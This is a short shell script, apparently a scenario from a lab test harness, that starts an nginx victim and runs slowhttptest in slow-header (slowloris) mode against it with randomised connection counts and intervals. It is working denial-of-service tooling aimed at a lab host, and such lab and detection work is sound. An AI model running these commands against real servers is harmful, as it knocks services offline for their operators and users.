# SPDX-License-Identifier: MIT
# label: dos-http-slow
# source: lab-slowhttptest
# needs: slowhttptest nginx
# seconds: 60
# Headers that never end.
. $lab/victims.sh

servers() {
	victim_site b 80
}

scenario() {
	_count=$(choose 50 150 400)
	_gap=$(choose 5 10 15)
	setting options "-H -c $_count -i $_gap"
	cd "$work" || return
	attack s b tcp 80 -- timeout 50 slowhttptest -H -c "$_count" -i "$_gap" \
		-r "$(choose 10 50)" \
		-l 45 -u "http://$(addr b)/"
}
